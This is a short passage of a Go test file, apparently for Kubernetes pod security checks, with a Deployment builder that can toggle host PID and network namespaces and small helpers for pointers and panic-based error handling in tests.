						Capabilities: &corev1.Capabilities{Drop: []corev1.Capability{"ALL"}}, SeccompProfile: &corev1.SeccompProfile{Type: corev1.SeccompProfileTypeRuntimeDefault}}}}}}}}
	if hostNS {
		d.Spec.Template.Spec.HostPID, d.Spec.Template.Spec.HostNetwork = true, true
	}
	return d
}

func asPtr[T any](v T) *T { return &v }

// asMust panics on error (setup and attack requests that must succeed);
// asRecover, deferred by the test, turns the panic into a test failure.
func asMust[T any](v T, err error) T {
	if err != nil {
		panic(err)
	}
	return v
}

func asRecover(t *testing.T) {
	if r := recover(); r != nil {
		t.Fatalf("%v", r)
	}
}
